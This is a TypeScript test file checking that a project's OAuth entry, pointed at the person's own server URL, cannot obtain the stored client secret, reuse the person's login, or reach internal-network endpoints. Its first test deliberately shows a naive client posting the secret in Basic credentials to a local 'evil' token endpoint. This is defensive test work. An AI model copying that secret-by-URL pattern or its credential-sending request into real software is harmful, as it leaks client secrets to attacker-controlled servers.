/** A36: a project's entry with the url of the person's own server, after what was stored for that url. */

import { createHash } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Account, accountOf } from '../../src/auth/account.ts';
import { NOTHING_REQUIRED } from '../../src/auth/challenge.ts';
import { HomeTraces } from '../../src/auth/home-traces.ts';
import { Logins } from '../../src/auth/logins.ts';
import { createServerAuth } from '../../src/auth/server-auth.ts';
import { homeAt } from '../../src/config/home.ts';
import { loadConfig } from '../../src/config/load.ts';
import { createHost, type Host } from '../../src/index.ts';
import { systemClock } from '../../src/lib/clock.ts';
import { openTrust } from '../../src/policy/trust.ts';
import { openSecrets } from '../../src/secrets/store.ts';
import { Place } from '../cli/command.ts';
import { type AuthServer, startAuthServer } from '../fixtures/auth-server.mjs';
import { browse } from '../world/login-world.ts';

const SECRET = 'CORP-CLIENT-SECRET';
const CLIENT = 'corp-client';

let place: Place;
/** The person's server with its authorization server, and those of an attacker. */
let corp: AuthServer;
let evil: AuthServer;
const hosts: Host[] = [];
beforeEach(async () => {
  place = new Place();
  [corp, evil] = await Promise.all([startAuthServer(), startAuthServer()]);
});
afterEach(async () => {
  for (const host of hosts.splice(0)) await host.close();
  await Promise.all([corp.close(), evil.close()]);
  place.remove();
});

const env = (): NodeJS.ProcessEnv => ({ ...process.env, PLUGBOARD_CREDENTIALS: 'file' });
const logins = (account?: Account): Logins => {
  const home = homeAt(place.home);
  const secrets = openSecrets({ home, env: env(), notice: () => {} });
  return new Logins({ secrets, traces: new HomeTraces(home, systemClock), clock: systemClock, account });
};

/** Registers the client wherever the browser is sent, as the attacker's server would take any. */
async function openUrl(url: string): Promise<void> {
  for (const server of [corp, evil]) {
    const redirectUris = [new URL(url).searchParams.get('redirect_uri')];
    server.clients.set(CLIENT, { redirectUris, ...(server === corp ? { secret: SECRET } : {}) });
  }
  await browse(url);
}

async function open(): Promise<Host> {
  const host = await createHost({
    cwd: place.project,
    home: place.home,
    env: env(),
    watch: false,
    connect: 'none',
    openUrl,
  });
  hosts.push(host);
  return host;
}

/** The person's own entry, whose secret is stored, and one of the project that is approved. */
async function setUp(oauth: object): Promise<Host> {
  place.write(place.userFile, { mcpServers: { corp: { url: corp.url, oauth: { clientId: CLIENT } } } });
  await logins().keepClientSecret(corp.url, SECRET);
  place.write(place.projectFile, { mcpServers: { docs: { url: corp.url, oauth } } });
  const home = homeAt(place.home);
  await openTrust({ home, env: env() }).grant((await loadConfig({ cwd: place.project, home })).servers);
  return open();
}

const endpoints = (): object => ({
  clientId: CLIENT,
  authorizationUrl: `${evil.issuer}/authorize`,
  tokenUrl: `${evil.issuer}/token`,
});

/** Everything that a server was sent, with what is inside Basic credentials. */
function sentTo({ log }: AuthServer): string {
  const basic = log.map(({ headers }) => headers['authorization']?.replace(/^Basic /, '') ?? '');
  return JSON.stringify([log, basic.map((each) => Buffer.from(each, 'base64').toString())]);
}

describe('A36: an entry of a project with the url of the person’s own server', () => {
  it('gets the client secret from a plain client, which stores by url', async () => {
    const byUrl = new Map([[corp.url, SECRET]]);
    const project = { url: corp.url, oauth: { clientId: CLIENT, tokenUrl: `${evil.issuer}/token` } };
    const basic = Buffer.from(`${CLIENT}:${byUrl.get(project.url)}`).toString('base64');
    await fetch(project.oauth.tokenUrl, { method: 'POST', headers: { authorization: `Basic ${basic}` } });
    expect(sentTo(evil)).toContain(SECRET);
  });

  it('gets nothing with a token endpoint of its own', async () => {
    const host = await setUp(endpoints());
    await host.login('docs').catch(() => undefined);
    expect(sentTo(evil)).not.toContain(SECRET);
    expect(await logins().clientSecret(corp.url)).toBe(SECRET);
  });

  it('gets nothing without endpoints of its own either, and its login stays its own', async () => {
    const host = await setUp({});
    await host.login('docs');
    expect(sentTo(corp)).not.toContain(SECRET);
    expect([await host.credentialPlace('docs'), await host.credentialPlace('corp')]).toEqual([
      'file',
      'none',
    ]);
    await host.login('corp');
    await host.logout('docs');
    expect([await host.credentialPlace('docs'), await host.credentialPlace('corp')]).toEqual([
      'none',
      'file',
    ]);
  });

  it('does not get the login that the person made', async () => {
    const host = await setUp({});
    await host.login('corp');
    await expect(host.connect('docs')).rejects.toMatchObject({ code: 'NEEDS_AUTH' });
    expect(sentTo(corp)).toContain(SECRET);
  });

  it('cannot have its login finished as the person’s', async () => {
    const foreign = accountOf({ scope: 'project', file: place.projectFile, baseDir: place.project }, {});
    const made = [logins(foreign), logins()] as const;
    const [theirs, own] = made.map((each) =>
      createServerAuth({
        server: 'docs',
        entry: { url: corp.url },
        env: env(),
        logins: each,
        clock: systemClock,
      }),
    );
    const begun = await theirs?.beginLogin({ redirectUri: 'http://127.0.0.1:9/callback' });
    await expect(own?.finishLogin({ state: begun?.state ?? '', code: 'x' })).rejects.toMatchObject({
      message: expect.stringContaining('no login waits for this answer'),
    });
    for (const each of [theirs, own, ...made]) each?.close();
  });

  it('cannot name an endpoint inside the network, as the person can', async () => {
    const url = 'https://corp.example/mcp';
    const begin = async (foreign: boolean): Promise<unknown> => {
      const kept = logins();
      await kept.rememberChallenge(url, NOTHING_REQUIRED);
      const entry = { url, oauth: endpoints() };
      const auth = createServerAuth({
        server: 'docs',
        entry,
        env: env(),
        logins: kept,
        clock: systemClock,
        foreign,
      });
      return auth.beginLogin({ redirectUri: 'http://127.0.0.1:9/callback' }).finally(() => {
        auth.close();
        kept.close();
      });
    };
    await expect(begin(false)).resolves.toMatchObject({ state: expect.any(String) });
    await expect(begin(true)).rejects.toMatchObject({
      code: expect.stringMatching(/^(EGRESS|AUTH|BLOCKED)/),
    });
    expect(evil.log).toEqual([]);
  });
});

describe('A36: stored logins and approvals', () => {
  it('keeps the name that it had for the person’s own servers', async () => {
    const name = createHash('sha256').update(corp.url).digest('hex').slice(0, 32);
    await logins().keepClientSecret(corp.url, SECRET);
    expect(logins().keyOf(corp.url)).toBe(name);
    expect(
      await openSecrets({ home: homeAt(place.home), env: env(), notice: () => {} }).get(`client:${name}`),
    ).toBe(SECRET);
  });

  it('is for another issuer than the one it was used with only if it is stored for that', async () => {
    const user = { scope: 'user', baseDir: place.project } as const;
    const own = logins();
    await own.keepClientSecret(corp.url, SECRET);
    const used = { token: `${corp.issuer}/token` };
    await own.locked(corp.url, (held) =>
      held.write({ version: 1, url: corp.url, issuer: corp.issuer, endpoints: used }, 'login'),
    );
    const at = (tokenUrl: string): Logins => logins(accountOf(user, { oauth: { tokenUrl } }));
    expect(await at(`${evil.issuer}/token`).clientSecret(corp.url)).toBeUndefined();
    expect(await at(`${corp.issuer}/token`).clientSecret(corp.url)).toBe(SECRET);
    await at(`${evil.issuer}/token`).keepClientSecret(corp.url, 'other');
    expect(await at(`${evil.issuer}/token`).clientSecret(corp.url)).toBe('other');
    expect(await own.clientSecret(corp.url)).toBe(SECRET);
  });
});
